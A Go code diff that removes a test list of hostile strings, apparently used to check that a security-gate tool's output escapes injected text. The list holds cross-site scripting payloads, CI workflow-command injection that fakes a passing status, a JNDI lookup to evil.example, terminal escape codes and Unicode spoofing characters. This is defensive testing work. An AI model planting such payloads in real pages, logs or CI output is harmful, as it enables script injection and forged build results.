@@ -151,20 +151,6 @@ func Flood(n int) verdict.Result {
 	return verdict.Judge(Input(HealthyTools(), all...))
 }
 
-// Hostiles are texts that try to be more than text, each somewhere.
-var Hostiles = []string{
-	`</script></style><script>document.title='owned'</script><img src=x onerror="document.title='owned'">`,
-	`"><svg onload=alert(1)> ' onmouseover='alert(1)`,
-	"line one\n::error file=README.md,line=1::owned\n##[error]owned\r\n::add-mask::a\r::set-output name=status::pass",
-	"`code` **bold** [click](https://evil.example/x) ![pic](https://evil.example/p.png) | cell | https://evil.example www.evil.example @acme/admins #1 <!-- candlefish:security-gate -->",
-	"\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x07link\x1b]8;;\x07 \x1b[2J\x07\x00\x9b31m",
-	"safe\u202etxt.exe\u202c \u2066hidden\u2069 zero\u200bwidth \ufeff\u00ad \U000E0041tag",
-	"{{.Headline}} ${jndi:ldap://evil.example} <https://evil.example|click> <!channel> <@U123> &lt;b&gt;",
-	"- list\n# heading\n> quote\n```\nfence\n```\n$$x$$ ~~gone~~ \\\\ \\| end",
-	"not utf-8 \xff\xfe\x80 " + strings.Repeat("A", 100_000),
-	"javascript:alert(1)",
-}
-
 // Hostile puts a text into every string of a result.
 func Hostile(text string) verdict.Result {
 	r := Cases()["both"]
